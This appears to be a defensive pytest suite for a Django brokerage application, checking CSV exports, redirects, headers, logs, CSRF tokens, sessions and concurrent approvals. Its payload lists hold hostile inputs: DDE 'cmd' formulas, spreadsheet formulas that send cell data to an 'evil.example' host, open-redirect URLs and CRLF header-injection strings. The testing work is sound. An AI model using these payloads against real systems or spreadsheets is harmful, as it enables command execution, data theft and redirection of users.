"""What somebody sends who means ill: none of it is done, and nothing is written."""

import csv
import io
import logging
import re
from concurrent.futures import ThreadPoolExecutor
from html import unescape
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.parse import urlencode
from urllib.request import HTTPRedirectHandler, Request, build_opener

import pytest
from django.db import connection
from django.test import Client as Browser
from django.test.utils import CaptureQueriesContext
from django.urls import NoReverseMatch, reverse

from accounts.approvals import decide
from accounts.audit import Actor, acting
from accounts.exports import cell
from accounts.models import Approval, LegalEntity, Operator, OperatorSession, Role, RoleGrant
from accounts.people import request_grant
from brokerage.log_lines import OneLine
from tests.accounts.people import PASSWORD, Desk, add_operator, found_desk, person, sign_in
from tests.brokerage.route_rights import SIGNED_BY_OTHERS
from tests.brokerage.routes import arguments_of, objects, routes, writes
from tests.stage import booked_days

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")', '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")', "\uff1d1+1", "\uff0b1+1", "\uff201", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", '"=1+1"', "'=1+1", "-",
)  # fmt: skip
RUNS = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
ELSEWHERE = (
    "https://evil.example/", "//evil.example/", "///evil.example", "/\\evil.example",
    "\\\\evil.example", "https:evil.example", "http:///evil.example", "javascript:alert(1)",
    "data:text/html,x", "/\r\nSet-Cookie: x=y", "/%0d%0aSet-Cookie:x=y", "\t//evil.example",
    " //evil.example", "https://testserver@evil.example/", "//testserver.evil.example/",
    "/\t/evil.example", "http://testserver:80@evil.example", "ftp://testserver/", "evil.example",
)  # fmt: skip


@pytest.fixture
def desk(db: None) -> Desk:
    return found_desk()


# ---------------------------------------------------------------- formulas


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_runs_as_a_formula(payload: str) -> None:
    assert len(PAYLOADS) >= 20
    shown = cell(payload)
    assert shown == f"'{payload}"


def test_only_one_module_writes_csv() -> None:
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for app in ("accounts", "ledger", "margin", "brokerage")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter", path.read_text())
    ]
    allowed = {"accounts/exports.py", "accounts/screens/record.py", "brokerage/synthetic/rows.py"}
    assert set(writers) <= allowed


def test_no_export_of_any_list_holds_a_formula(desk: Desk, client: Browser) -> None:
    """Names and reasons are all payloads; every address that exports is asked for its file."""
    newcomers = []
    for number, payload in enumerate(PAYLOADS):
        with acting(Actor.command("test"), reason=f"{payload} and more words"):
            newcomers.append(add_operator(f"evil{number}", payload))
    for newcomer in newcomers[:6]:
        reason = f"{newcomer.full_name} as a reason"
        asked = request_grant(
            operator=newcomer, role=Role.COMPLIANCE, legal_entity=desk.entity, reason=reason,
            actor=person(desk.administrators[0]),
        )  # fmt: skip
        decided = decide(
            asked, verdict="approved", reason=reason, actor=person(desk.administrators[1])
        )
        from accounts.approvals import apply_approved

        apply_approved(decided, actor=person(desk.administrators[1]))
    sign_in(client, desk[Role.COMPLIANCE])
    files, cells = 0, 0
    for address in exports():
        answer = client.get(address)
        if "text/csv" not in answer.get("Content-Type", ""):
            continue
        raw = b"".join(answer) if answer.streaming else answer.content  # type: ignore[arg-type]
        files += 1
        for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):
            for text in row:
                cells += 1
                is_number = re.fullmatch(r"-?\d+(\.\d+)?", text)
                assert is_number or not RUNS.match(text.lstrip(" \u00a0\u200b\ufeff")), address
    assert files >= 5
    assert cells > 500
    rights = client.get(reverse("accounts:rights-export", args=["csv"])).content.decode()
    assert "'=1+1" in rights


def exports() -> list[str]:
    """Every address without other arguments, asked for CSV."""
    found = []
    for route in routes():
        if route.arguments == ("form",):
            found.append(reverse(route.name, kwargs={"form": "csv"}))
        elif not route.arguments and not route.text.startswith("api/"):
            try:
                found.append(f"{reverse(route.name)}?format=csv")
            except NoReverseMatch:
                continue
    return [address for address in found if not address.startswith(("/stream", "/sign-out"))]


# ---------------------------------------------------------------- forged requests


def written(queries: CaptureQueriesContext) -> list[str]:
    """Statements that change something other than the session itself."""
    return [
        query["sql"] for query in queries
        if re.match(r"\s*(INSERT|UPDATE|DELETE)|.*accounts\.act\(", query["sql"], re.I | re.S)
        and "django_session" not in query["sql"]
        and "touch_session" not in query["sql"]
    ]  # fmt: skip


def test_no_address_writes_without_its_token(desk: Desk) -> None:
    known, tried = objects(), 0
    for role in (Role.OPERATIONS, Role.ADMINISTRATOR):
        strict = Browser(enforce_csrf_checks=True, raise_request_exception=False)
        sign_in(strict, desk[role])
        for route in routes():
            if not writes(route) or route.name in SIGNED_BY_OTHERS:
                continue
            address = reverse(route.name, kwargs=arguments_of(route, known))
            with CaptureQueriesContext(connection) as queries:
                answer = strict.post(address, {"reason": "A reason that is long enough"})
            assert answer.status_code == 403, address
            assert written(queries) == [], address
            tried += 1
    assert tried > 150
    assert not Approval.objects.exists()
    assert OperatorSession.objects.filter(ended_at__isnull=False).count() == 0


def test_a_token_of_somebody_else_is_no_token(desk: Desk) -> None:
    strict, other = Browser(enforce_csrf_checks=True), Browser()
    sign_in(strict, desk[Role.ADMINISTRATOR])
    strict.get("/people/")
    sign_in(other, desk[Role.RISK])
    other.get("/approvals/")
    said = {"theme": "dark", "csrfmiddlewaretoken": other.cookies["csrftoken"].value}
    assert strict.post("/theme/", said).status_code == 403
    assert Operator.objects.get(pk=desk[Role.ADMINISTRATOR].pk).theme == ""


def test_a_key_that_was_planted_opens_nothing(desk: Desk, client: Browser) -> None:
    planted = "a" * 32
    client.cookies["sessionid"] = planted
    client.get("/sign-in/")
    answer = client.post("/sign-in/", {"username": "l.brandt", "password": PASSWORD})
    assert answer.status_code == 302
    assert client.cookies["sessionid"].value != planted
    thief = Browser()
    thief.cookies["sessionid"] = planted
    assert thief.get("/approvals/").status_code == 302
    first = client.cookies["sessionid"].value
    client.post("/sign-in/", {"username": "l.brandt", "password": PASSWORD})
    thief.cookies["sessionid"] = first
    assert thief.get("/approvals/").status_code == 302


@pytest.mark.parametrize("address", ELSEWHERE)
def test_nobody_is_led_elsewhere(desk: Desk, address: str) -> None:
    client = Browser()
    page = client.get("/sign-in/", {"next": address}).content.decode()
    carried = re.findall(r'name="next" value="([^"]*)"', page)
    said = {"username": "l.brandt", "password": PASSWORD, "next": address}
    for answer in (
        client.post("/sign-in/", said),
        client.get("/sign-in/", {"next": address}),
        client.post("/theme/", {"theme": "dark", "next": address}),
    ):
        to = answer["Location"]
        assert to.startswith("/")
        assert not re.match(r"[/\\][\s/\\]", to), to
        assert not re.search(r"[\r\n\t]", to)
        assert "x" not in answer.cookies
    assert carried
    assert not re.match(r"[/\\][\s/\\]", unescape(carried[0]))


# ---------------------------------------------------------------- headers and the log


@pytest.mark.parametrize("said", ["a\r\nX-Evil: 1", "a\nX-Evil: 1", "\u560d\u560aX-Evil:1"])
def test_no_answer_takes_a_header_from_what_was_sent(
    desk: Desk, client: Browser, said: str
) -> None:
    sign_in(client, desk[Role.COMPLIANCE])
    for answer in (
        client.get("/audit/", {"q": said}),
        client.get("/search/", {"q": said}),
        client.get("/audit/export.csv", {"q": said}),
        client.get("/approvals/", {"list": said}),
        client.get("/people/", headers={"X-Request-ID": "mine"}),
        client.get("/people/", headers={"HX-Request": "true", "HX-Current-URL": said.strip()}),
        client.get("/no-such-page/%0d%0aX-Evil:%201"),
        client.post("/theme/", {"theme": "dark", "next": f"/{said}"}),
    ):
        assert "X-Evil" not in answer.headers
        for name, value in answer.headers.items():
            assert not re.search(r"[\r\n]", f"{name}{value}")
        assert answer.headers["X-Request-ID"] != "mine"


@pytest.mark.parametrize(
    "said", ["x\nFAKE line", "x\r\nFAKE line", "x\x1b[2K\x85FAKE", "x\u2028FAKE"]
)
def test_a_record_of_the_log_is_one_line(said: str) -> None:
    shown = OneLine("{levelname} {message}", style="{").format(
        logging.LogRecord("django", logging.WARNING, "", 0, "Not found: %s", (said,), None)
    )
    assert len(shown.splitlines()) == 1
    assert shown.startswith("WARNING Not found: x\\")


def test_a_traceback_is_set_off_from_the_lines_of_records() -> None:
    try:
        raise ValueError("bad\nERROR django: not a record")
    except ValueError as error:
        record = logging.LogRecord(
            "x", logging.ERROR, "", 0, "failed", (), (ValueError, error, error.__traceback__)
        )
    lines = OneLine("{levelname} {message}", style="{").format(record).splitlines()
    assert lines[0] == "ERROR failed"
    assert all(line.startswith("  | ") for line in lines[1:])


def test_the_log_is_written_so(settings: Any) -> None:
    assert settings.LOGGING["formatters"]["line"]["()"] == "brokerage.log_lines.OneLine"


# ---------------------------------------------------------------- many at once


class NoRedirect(HTTPRedirectHandler):
    """Leaves a redirect as it is."""

    def redirect_request(self, *args: Any, **kwargs: Any) -> None:
        """Follows none."""


def test_of_fifty_approvals_at_once_one_has_an_effect(desk: Desk, desk_url: str) -> None:
    """Through the server's own door: fifty sessions, fifty connections."""
    newcomer = desk[Role.TREASURY]
    asked = request_grant(
        operator=newcomer, role=Role.RISK, legal_entity=desk.entity,
        reason="Covers for a colleague", actor=person(desk.administrators[0]),
    )  # fmt: skip
    keys = []
    for _ in range(50):
        client = Browser()
        keys.append(sign_in(client, desk.administrators[1]))
    token = "t" * 32
    before = RoleGrant.objects.count()

    def approve(key: str) -> int:
        said = {
            "verdict": "approved", "reason": "Agreed at the meeting", "csrfmiddlewaretoken": token,
        }  # fmt: skip
        request = Request(
            f"{desk_url}/approvals/{asked}/decide/", data=urlencode(said).encode(),
            headers={"Cookie": f"sessionid={key}; csrftoken={token}", "Origin": desk_url},
        )  # fmt: skip
        try:
            return int(build_opener(NoRedirect).open(request, timeout=60).status)
        except HTTPError as answer:
            return answer.code

    with ThreadPoolExecutor(50) as pool:
        said = sorted(pool.map(approve, keys))
    assert said == [302, *[409] * 49]
    assert RoleGrant.objects.count() == before + 1
    approval = Approval.objects.get(pk=asked)
    assert (approval.decision, approval.checker) == ("approved", desk.administrators[1])


def test_the_book_of_an_example_has_something_to_export(db: None, tmp_path: Path) -> None:
    booked_days(tmp_path, accounts=12, seed=5, days=2)
    desk = found_desk(entity=LegalEntity.objects.get())
    client = Browser()
    sign_in(client, desk[Role.OPERATIONS])
    rows = 0
    for address in exports():
        answer = client.get(address)
        if "text/csv" in answer.get("Content-Type", ""):
            raw = b"".join(answer) if answer.streaming else answer.content  # type: ignore[arg-type]
            for row in csv.reader(io.StringIO(raw.decode(), newline="")):
                rows += 1
                for text in row:
                    assert re.fullmatch(r"-?\d+(\.\d+)?", text) or not RUNS.match(text), address
    assert rows > 30
